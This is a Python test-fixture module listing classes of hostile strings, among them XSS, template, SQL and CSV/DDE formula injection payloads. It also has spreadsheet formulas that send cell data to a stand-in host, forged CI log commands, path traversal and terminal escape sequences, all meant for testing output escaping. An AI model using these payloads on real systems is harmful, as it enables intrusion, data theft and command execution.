r"""Texts that some program, somewhere, takes for more than text; each class names what it is aimed at.

All of them are our own. `CELLS` leaves out what no CSV of ours can hold as a cell: control characters and lone
surrogates, which the scan or the decoding refuses.
"""

from __future__ import annotations

import unicodedata

SCRIPT = (
    "<script>document.title='ran'</script>",
    "<SCRIPT SRC=//tieout.invalid/a.js></SCRIPT>",
    "<scr<script>ipt>document.title='ran'</scr</script>ipt>",
    "</script><script>document.title='ran'</script>",
    "<svg onload=\"document.title='ran'\"></svg>",
    "<svg><script xlink:href=data:,document.title%3D'ran'></script></svg>",
    "<img src=x onerror=document.title='ran'>",
    "<body onpageshow=document.title='ran'>",
    "<details open ontoggle=document.title='ran'>meer</details>",
    "<iframe srcdoc=\"<script>top.document.title='ran'</script>\"></iframe>",
    "<object data='data:text/html,ran'></object>",
    "<base href='//tieout.invalid/'>",
    "<meta http-equiv=refresh content='0;url=//tieout.invalid/'>",
    "<link rel=stylesheet href=//tieout.invalid/a.css>",
    "<form action=//tieout.invalid/><button>Verder</button></form>",
    "<template><b>niet te zien</b></template>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=document.title='ran'>",
    "<!-- --!><b>na het commentaar</b>",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>",
    "&lt;b&gt;al ontsnapt&lt;/b&gt; &#60;i&#62; &amp;amp;",
    "</title></style></textarea></noscript></pre></table><h1>eruit</h1>",
)
ATTRIBUTE = (
    "\" onmouseover=\"document.title='ran'",
    "' autofocus onfocus='document.title=1",
    'x" style="position:fixed;inset:0',
    "`onclick=document.title=1`",
    "a b=c d",
    '"></td><td>een cel erbij',
    "'/><input type=text>",
    'x" id="f1',
    'x" href="#language-en',
    "/onerror=1//",
)
URL = (
    "javascript:document.title='ran'",
    "JaVaScRiPt:void(0)",
    "java\u00adscript:void(0)",
    "data:text/html;base64,PGI+eDwvYj4=",
    "vbscript:msgbox(1)",
    "file:///etc/hostname",
    "//tieout.invalid/pad?vraag#anker",
    "http://gebruiker:geheim@tieout.invalid:1/%00",
    "mailto:iemand@tieout.invalid?body=x",
    "ms-excel:ofe|u|http://tieout.invalid/a.xls",
    "\\\\tieout.invalid\\deel\\plaatje.png",
    "https://tieout.invalid/?q=%3Cscript%3E",
)
STYLE = (
    "url(//tieout.invalid/a.png)",
    "@import '//tieout.invalid/a.css';",
    "</style><style>*{display:none}",
    "expression(document.title)",
    "}body{visibility:hidden}/*",
    "\\3c b\\3e",
    "color:red;background:url('//tieout.invalid')",
)
TEMPLATE = (
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in y %}",
    "{%- raw -%}{{ x }}",
    "{# weg #}",
    "{% endraw %}{{ verdict }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "$(id)",
    "`id`",
    "%(naam)s",
    "{0.__class__}",
    "{naam!r:>{breedte}}",
    "$naam ${naam:-x} $$",
    "${{ github.token }}",
    "[[ ${naam} ]]",
)
FORMULA = (
    "=1+1",
    "=SUM(A1:A9)",
    "=SOM(A1;A9)",
    "=cmd|' /C rekenmachine'!A0",
    "+cmd|' /C rekenmachine'!A0",
    "-2+3+cmd|' /C rekenmachine'!A0",
    "@SUM(1+1)*cmd|' /C rekenmachine'!A0",
    '=DDE("soffice";"/etc/hostname";"1")',
    '=HYPERLINK("//tieout.invalid/?"&A1,"klik")',
    '+HYPERLINK("//tieout.invalid/")',
    '-WEBSERVICE("//tieout.invalid/"&A1)',
    '@IMPORTXML(CONCAT("//tieout.invalid/",A1),"//a")',
    "=_xlfn.WEBSERVICE(A1)",
    "='[elders.xlsx]Blad1'!A1",
    '="0012"',
    " =1+1",
    '"=1+1',
    "＝1+1",
    "＋HYPERLINK(A1)",
    "\ufeff=1+1",
    "=A1",
    "-SUM(A1:A2)*2",
)
FORMULA_CONTROL = ("\t=1+1", "\r=1+1", "\x00=1+1", "\n=1+1", "\t\t@SUM(A1)", "\x0b=1")
COMMAND = (
    "::error file=a,line=1::fout",
    "::add-mask::2022",
    "::stop-commands::einde",
    "::set-output name=verdict::publish",
    "  ::warning::met spaties ervoor",
    "::group::open",
    "##[error]fout",
    "##[command]id",
    "##vso[task.complete result=Succeeded;]klaar",
    "##vso[task.setvariable variable=verdict]publish",
    "##teamcity[buildStatus status='SUCCESS']",
    "section_start:1:naam[collapsed=true]",
    "a::b",
    "tekst ##[section] tekst",
)
COMMAND_LINES = (
    "a\n::error::na een regeleinde",
    "a\r\n::error::na CRLF",
    "a\r::error::na CR",
    "a\u2028::error::na een regelscheider",
    "a\u2029::error::na een alineascheider",
    "a\x85::error::na een volgende regel",
    "a\x0c::error::na een pagina",
    "a\n\n  ##[error]na een lege regel",
    "a\n##vso[task.complete result=Succeeded;]",
    "a\nsection_end:1:naam\r\x1b[0K",
)
MARKDOWN = (
    "[klik](javascript:alert)",
    "![plaatje](//tieout.invalid/a.png)",
    "| een | tabel |\n|---|---|\n| erbij | x |",
    "# kop",
    "> citaat",
    "```\nblok\n```",
    "<details><summary>dicht</summary>",
    "*nadruk* _nadruk_ ~~weg~~ **vet**",
    "[verwijzing][1]\n\n[1]: //tieout.invalid",
    "- [x] gedaan",
    "<https://tieout.invalid>",
    "\\* \\_ \\|",
    "@naam #1 !2",
)
TERMINAL = (
    "\x1b[31mrood\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;titel\x07",
    "\x1b]8;;//tieout.invalid\x1b\\schakel\x1b]8;;\x1b\\",
    "\x1b]52;c;eA==\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[?1049h",
    "\x1bc",
    "\x9b31mrood",
    "\x9d0;titel\x9c",
    "12\b\b34",
    "goed\rfout",
    "\x07\x07",
    "a\x0eb\x0f",
    "\x7f\x7f",
)
ILLEGAL = ("\x00", "a\x00b", "\x01\x02", "\x1a", "\x1f", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\x85", "\ufffd")
SURROGATES = ("\ud800", "a\udfffb", "\udc80\ud83d", "\udcff.csv")
DIRECTION = (
    "12\u202e34",
    "\u202dlinks\u202c",
    "\u2066\u2067\u2068los\u2069",
    "\u200frechts\u200e",
    "\u061c5",
    "kosten\u202evsc.exe",
    "\u202e\u202e\u202e",
)
UNSEEN = (
    "om\u200bzet",
    "om\u200czet\u200d",
    "\u2060omzet",
    "\ufeffomzet",
    "om\u00adzet",
    "omzet\u00a0",
    "omzet\u3000\u2003",
    "\u115f\u1160\u3164",
    "\u2800",
    "\u180e",
    "\U000e0041\U000e0042",
    "o\ufe0fm\ufe0e",
)
COMBINING = (
    "e\u0301\u0302\u0303\u0304",
    "z" + "\u0335\u0336\u0337" * 20,
    "\u0301los",
    "\u20dd",
    "a\u0338=b",
    "ﷺ",
    "ﬃ ½ ²",
)
LOOKALIKE = ("оmzet", "Ｔotaal", "Τotaal", "ⅼasten", "٢٠٢٢", "2０22", "1٫5", "‒ 5", "−5", "５％", "l00", "ⅯⅯⅩⅩⅡ")
LONG = (
    "x" * 5_000,
    "woord " * 1_000,
    "<" * 2_000,
    "&amp;" * 1_000,
    "{{" * 1_000,
    "[" * 2_000,
    "::" * 1_000,
    "\u0301" * 500,
)
NUMBERS = (
    "NaN", "-NaN", "Infinity", "-inf", "1e400", "0x1F", "0b1", "1_000", "1,5.3", "--5", "+-5", "1/0", "00456", "1e3",
    "-0", ".", ",", "1.234.567,89", "9" * 60, "0," + "3" * 60,
)  # fmt: skip
SQL = (
    "'; DROP TABLE figures; --",
    '"; DETACH run; --',
    "' OR 1=1",
    "$$x$$",
    "$1 ? :naam",
    "/* open",
    "-- weg",
    "read_csv('/etc/hostname')",
    '" AS verdict, "',
    "%' ESCAPE '%",
)
PATHS = (
    "../../buiten.csv",
    "/etc/hostname",
    "C:\\map\\a.csv",
    "CON",
    "a/b\\c",
    "~/.profile",
    "*.csv",
    "a[1]?.csv",
    ".",
    "..",
    "-rf",
    "--help",
    "bestand.csv:1:1",
)
PRINTING = ("%s%n%d", "%99999d", "{}{0}{x}", "%%", "\\n\\t\\x41\\u0041", "\\", "\\\\", "a%20b", "%c0%ae")
JSON = ('"', '","verdict":"publish', '"}]}', "\\u0022", '\\"', "\u2028]", '{"a":NaN}', "null", "[1,2", "\\ud800")
TOML = (
    '"\n[[explanation]]\nfinding = "x',
    '"""',
    "'''",
    '" # commentaar',
    "a = 1\nb",
    "\\",
    "\\u12",
    "[tabel]",
    "1979-05-27",
)
MARKUP = (
    "[bold]x[/bold]",
    "[/]",
    "[link=//tieout.invalid]x[/link]",
    "[red on blue]",
    "\\[bold]",
    "[@click=app.quit]x[/]",
    "[not a tag",
    "[[x]]",
)
EMOJI = (":warning:", ":white_check_mark:", ":x: :x:", "🇳🇱", "👩\u200d💻", "☠\ufe0f", "✓ PUBLISH", "■ 0 kritiek")

CLASSES = {
    "script": SCRIPT, "attribute": ATTRIBUTE, "url": URL, "style": STYLE, "template": TEMPLATE, "formula": FORMULA,
    "formula behind a control": FORMULA_CONTROL, "command": COMMAND, "command on another line": COMMAND_LINES,
    "markdown": MARKDOWN, "terminal": TERMINAL, "illegal in XML": ILLEGAL, "lone surrogate": SURROGATES,
    "direction": DIRECTION, "unseen": UNSEEN, "combining": COMBINING, "look-alike": LOOKALIKE, "long": LONG,
    "number-like": NUMBERS, "SQL": SQL, "path-like": PATHS, "format": PRINTING, "JSON": JSON, "TOML": TOML,
    "markup": MARKUP, "emoji": EMOJI,
}  # fmt: skip
EVERY = tuple(dict.fromkeys(text for texts in CLASSES.values() for text in texts))


def is_encodable(text: str) -> bool:
    """Tell whether UTF-8 can hold a text."""
    return not any("\ud800" <= char <= "\udfff" for char in text)


def is_cell(text: str) -> bool:
    """Tell whether a cell of a CSV can be this text: no control character, no lone surrogate."""
    return is_encodable(text) and not any(unicodedata.category(char) == "Cc" for char in text)


ENCODABLE = tuple(filter(is_encodable, EVERY))
CELLS = tuple(filter(is_cell, EVERY))
